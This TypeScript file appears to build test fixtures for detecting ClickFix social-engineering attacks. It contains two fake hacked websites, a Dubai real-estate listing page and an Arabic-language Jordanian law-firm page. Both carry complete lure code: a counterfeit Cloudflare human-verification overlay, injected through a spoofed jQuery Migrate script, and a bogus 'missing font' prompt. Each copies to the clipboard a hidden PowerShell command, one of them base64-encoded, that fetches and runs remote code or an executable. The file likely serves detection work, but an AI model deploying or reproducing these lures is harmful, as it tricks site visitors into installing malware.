import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, json, js, b64, gtag } from '../parts/yl-kit.js';

const psEnc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

const cfOverlayJs = `(function(){
  if(sessionStorage.getItem('__cfv'))return;
  var cmd='powershell -w h -nop -c "$r=iwr \\'https://ae-cdn-check.com/v.txt\\' -UseBasicParsing;iex $r.Content" # ✅ I am not a robot - reCAPTCHA Verification ID: '+Math.floor(1000+Math.random()*9000);
  var st=document.createElement('style');st.textContent='#cfo{position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:system-ui,-apple-system,Segoe UI,Roboto,sans-serif;color:#313131}#cfo .m{max-width:620px;margin:12vh auto 0;padding:0 20px}#cfo h1{font-size:28px;font-weight:500}#cfo .b{border:1px solid #d9d9d9;background:#fafafa;width:300px;padding:16px;display:flex;gap:12px;align-items:center;cursor:pointer;margin-top:20px}#cfo .b i{width:24px;height:24px;border:2px solid #777;border-radius:3px;background:#fff}#cfo .s{display:none;margin-top:22px;background:#f4f6f8;border-radius:6px;padding:16px 18px;line-height:2}#cfo kbd{background:#fff;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-family:inherit}';
  document.head.appendChild(st);
  var o=document.createElement('div');o.id='cfo';
  o.innerHTML='<div class="m"><h1>'+location.hostname+'</h1><p>Verify you are human by completing the action below.</p><div class="b" id="cfb"><i></i><span>Verify you are human</span></div><div class="s" id="cfs"><b>Verification steps</b><br>1. Press <kbd>Windows</kbd> + <kbd>R</kbd><br>2. Press <kbd>CTRL</kbd> + <kbd>V</kbd><br>3. Press <kbd>Enter</kbd> to complete verification</div><p style="margin-top:40px;font-size:12px;color:#999">'+location.hostname+' needs to review the security of your connection before proceeding.<br>Ray ID: '+Math.random().toString(16).slice(2,18)+' · Performance &amp; security by Cloudflare</p></div>';
  document.body.appendChild(o);
  document.getElementById('cfb').onclick=function(){
    var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();
    try{navigator.clipboard.writeText(cmd).catch(function(){document.execCommand('copy')})}catch(e){document.execCommand('copy')}
    t.remove();document.getElementById('cfs').style.display='block';this.querySelector('span').textContent='Verification pending…';
  };
})();`;

export const entries: Entry[] = [
{
  id: 'yl-clickfix-dubai-realestate-injected',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.palmvista-realestate.ae/en/properties/palm-jumeirah/',
  body: doc({
    title: 'Villas for Sale in Palm Jumeirah | PalmVista Real Estate Dubai',
    head: `<meta name="description" content="Browse luxury villas and apartments for sale on Palm Jumeirah. RERA registered brokers.">${gtag('G-7Q2LJ3KX8M')}
<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"></script>
<script src="https://cdn-jsdelivr-stats.com/wp/jquery-migrate.min.js?ver=3.4.1"></script>`,
    css: `body{margin:0;font-family:'Montserrat',Arial,sans-serif;color:#222}.nav{display:flex;justify-content:space-between;align-items:center;padding:18px 40px;border-bottom:1px solid #eee}.nav a{margin-left:22px;color:#222;text-decoration:none;font-size:14px}
.hero{height:320px;background:#1c3d5a url('/wp-content/uploads/2024/03/palm-aerial.jpg') center/cover;color:#fff;display:flex;align-items:flex-end;padding:30px 40px}.hero h1{font-size:36px;margin:0}
.grid{display:grid;grid-template-columns:repeat(auto-fill,minmax(280px,1fr));gap:24px;padding:30px 40px}.p{border:1px solid #eee;border-radius:6px;overflow:hidden}.p .im{height:180px;background:#cfd8e0}.p .tx{padding:14px}.p .pr{font-weight:700;color:#b08d57;font-size:18px}.p small{color:#777}
footer{background:#0f2233;color:#aab;padding:30px 40px;font-size:13px}`,
    body: `<div class="nav">${wordmark('PalmVista', '#0f2233', { size: 24 })}<div><a href="#">Buy</a><a href="#">Rent</a><a href="#">Off-Plan</a><a href="#">Communities</a><a href="#">Contact</a></div></div>
<div class="hero"><h1>Properties for sale in Palm Jumeirah</h1></div>
<div class="grid">${[['Signature Villa, Frond G', 'AED 38,500,000', '6 beds · 8 baths · 12,400 sq ft'], ['Garden Home, Frond N', 'AED 17,900,000', '4 beds · 5 baths · 5,600 sq ft'], ['Oceana, Atlantic Tower', 'AED 4,250,000', '2 beds · 3 baths · 1,880 sq ft'], ['Serenia Residences', 'AED 6,100,000', '3 beds · 4 baths · 2,450 sq ft'], ['Shoreline Apartments', 'AED 2,690,000', '1 bed · 2 baths · 1,260 sq ft'], ['Royal Atlantis Residences', 'AED 31,000,000', '4 beds · penthouse']].map(([a, b, c]) => `<div class="p"><div class="im"></div><div class="tx"><b>${a}</b><div class="pr">${b}</div><small>${c}</small></div></div>`).join('')}</div>
<footer>PalmVista Real Estate Brokers LLC · ORN 28417 · Office 1203, Marina Plaza, Dubai Marina · +971 4 447 2290 · info@palmvista-realestate.ae</footer>`,
  }),
  routes: {
    'cdn-jsdelivr-stats.com/wp/jquery-migrate.min.js': js(`/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
"undefined"==typeof jQuery&&(window.jQuery={fn:{jquery:"3.7.1"}});
(function(){var ua=navigator.userAgent;if(!/Windows NT/.test(ua)||/bot|crawl|spider/i.test(ua))return;if(document.readyState==='loading')document.addEventListener('DOMContentLoaded',run);else run();function run(){${cfOverlayJs}}})();`),
  },
},
{
  id: 'yl-clickfix-lawfirm-arabic-encoded-ps',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.alhashimi-lawfirm.com.jo/ar/services/',
  body: doc({
    title: 'مكتب الهاشمي للمحاماة والاستشارات القانونية – عمّان',
    lang: 'ar',
    css: `body{margin:0;font-family:'Tajawal',Tahoma,sans-serif;color:#222;background:#fff}.n{background:#1d2b3a;color:#fff;padding:18px 30px;display:flex;justify-content:space-between}.s{max-width:900px;margin:30px auto;padding:0 20px;line-height:1.9}.s h3{color:#1d2b3a;border-right:4px solid #b8934a;padding-right:10px}
#fx{position:fixed;inset:0;background:rgba(255,255,255,.97);display:flex;align-items:center;justify-content:center}#fx .b{width:520px;max-width:92%;border:1px solid #ddd;border-radius:8px;padding:26px;box-shadow:0 8px 30px rgba(0,0,0,.12);text-align:right}#fx h2{margin-top:0;color:#b42318}#fx button{background:#2563eb;color:#fff;border:0;padding:11px 24px;border-radius:6px;font-size:16px;cursor:pointer}#fx ol{line-height:2.1;display:none}#fx kbd{background:#f1f1f1;border:1px solid #ccc;border-radius:3px;padding:1px 6px;direction:ltr;display:inline-block}`,
    body: `<div class="n"><b>مكتب الهاشمي للمحاماة</b><span>الرئيسية · خدماتنا · فريق العمل · اتصل بنا</span></div>
<div class="s"><h3>قضايا الشركات والاستثمار</h3><p>تأسيس الشركات في الأردن، صياغة العقود التجارية، تسجيل العلامات التجارية، وتمثيل المستثمرين أمام الجهات الرسمية.</p>
<h3>القضايا العمالية</h3><p>تمثيل أصحاب العمل والعمال في النزاعات العمالية أمام محاكم الصلح والبداية.</p><h3>قضايا الأحوال الشخصية</h3><p>الطلاق والحضانة والنفقة والميراث وتقسيم التركات.</p>
<p>العنوان: عمّان – الشميساني – شارع عبد الحميد شرف – مجمع 24 · هاتف: 4611832 6 962+</p></div>
<div id="fx"><div class="b"><h2>⚠ تعذّر عرض الصفحة بشكل صحيح</h2><p>الخط العربي «Tajawal» غير مثبت على جهازك، لذلك لا يمكن عرض محتوى الصفحة. اضغط «إصلاح» لتثبيت الخط تلقائياً.</p><button id="fb">إصلاح</button>
<ol id="ol"><li>اضغط بزر الفأرة الأيمن على زر <kbd>ابدأ</kbd> أو اضغط <kbd>Win</kbd> + <kbd>X</kbd></li><li>اختر <b>Windows PowerShell</b> أو <b>Terminal</b></li><li>اضغط بزر الفأرة الأيمن داخل النافذة للّصق، ثم اضغط <kbd>Enter</kbd></li></ol></div></div>
<script>
document.getElementById('fb').onclick=function(){navigator.clipboard.writeText('powershell -NoProfile -WindowStyle Hidden -EncodedCommand ${psEnc(`$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');$p="$env:APPDATA\\fnt\\Tajawal-Install.exe";New-Item -ItemType Directory -Force (Split-Path $p)|Out-Null;$w.DownloadFile('https://jo-fonts-cdn.com/f/t.exe',$p);Start-Process $p`)}').then(function(){document.getElementById('ol').style.display='block';document.getElementById('fb').textContent='تم النسخ ✓'})};
</script>`,
  }),
},
];
